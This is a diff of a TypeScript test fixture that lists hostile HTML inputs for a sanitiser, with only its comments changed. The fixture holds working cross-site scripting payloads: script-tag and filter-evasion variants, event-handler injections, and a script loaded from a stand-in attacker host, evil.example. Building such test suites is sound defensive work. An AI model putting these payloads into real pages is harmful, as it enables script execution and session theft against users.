@@ -1,10 +1,10 @@
-/** Whatever of this a browser runs sets `window.injected`; whatever it loads comes from here. */
+/** All hostile scripts set `window.injected`, and all hostile resources come from one host: tests watch for both. */
 const RUN = "window.injected=1";
 const ELSEWHERE = "https://evil.example";
 
 const nested = (tag: string, times: number) => `<${tag}>`.repeat(times) + "deep" + `</${tag}>`.repeat(times);
 
-/** HTML that no page may ever show as it is, by what it tries. Some of it is well-meant: an editor's slip. */
+/** HTML that no page may show unsanitised, by the attack. Some cases are an editor's mistakes. */
 export const hostileHtml: Readonly<Record<string, string>> = {
   "script-tags": `<script>${RUN}</script><ScRiPt/src=${ELSEWHERE}/x.js></ScRiPt><script type="module">${RUN}</script><scr<script>ipt>${RUN}</script><p>After</p>`,
   "event-handlers": `<img src=x onerror="${RUN}"><a href="/" ONCLICK=${RUN}>a</a><details open ontoggle="${RUN}"><summary>b</summary></details><input autofocus onfocus=${RUN}><video><source onerror="${RUN}"></video><body onload=${RUN}><p/onmouseover=${RUN}//style="animation:x" onanimationstart="${RUN}">c</p>`,
